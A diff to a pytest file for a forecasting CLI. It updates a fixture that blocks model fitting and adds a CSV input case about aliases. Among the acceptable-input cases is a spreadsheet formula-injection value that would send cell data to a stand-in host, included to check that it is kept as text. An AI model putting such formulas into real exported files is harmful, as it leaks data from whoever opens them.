@@ -93,7 +93,7 @@ def run_cli(argv: list[str], capsys) -> tuple[int, str]:
 @pytest.fixture(autouse=True)
 def _no_fitting(monkeypatch):
     """Reaching a fit means an option or file was not checked up front."""
-    import forecast.backtest
+    import forecast.batch
     import forecast.fit
     import forecast.reliability
 
@@ -102,7 +102,7 @@ def _no_fitting(monkeypatch):
 
     monkeypatch.setattr(forecast.fit, "fit", refuse)
     monkeypatch.setattr(forecast.reliability, "learn_reliability", refuse)
-    monkeypatch.setattr(forecast.backtest.cf, "ProcessPoolExecutor", refuse)  # backtest workers
+    monkeypatch.setattr(forecast.batch, "run_batch", refuse)  # backtest workers
 
 
 # -- the corpus ---------------------------------------------------------------------------------
@@ -407,8 +407,10 @@ def test_no_traceback_in_a_real_process(name, scenario_copy):
      rumour(summary='=HYPERLINK("http://x/?leak="&A1,"click") is kept as text'),
      rumour(summary="Señor Ancelotti, «très» 好"),
      rumour(summary="two\nlines in quotes"),
-     rumour(url="HTTPS://EXAMPLE.ORG/Upper?q=1#frag")],
-    ids=["bom", "crlf", "formula-text", "non-ascii", "multi-line", "upper-case-url"],
+     rumour(url="HTTPS://EXAMPLE.ORG/Upper?q=1#frag"),
+     raw("sources.csv", lambda b: b + b"Voetbalpraat,aggregator,NL,nl,4,VOETBALPRAAT,\n")],
+    ids=["bom", "crlf", "formula-text", "non-ascii", "multi-line", "upper-case-url",
+         "alias-repeats-own-name"],
 )
 def test_acceptable_input_is_accepted(edit, scenario_copy, capsys):
     edit(scenario_copy.parent.parent)
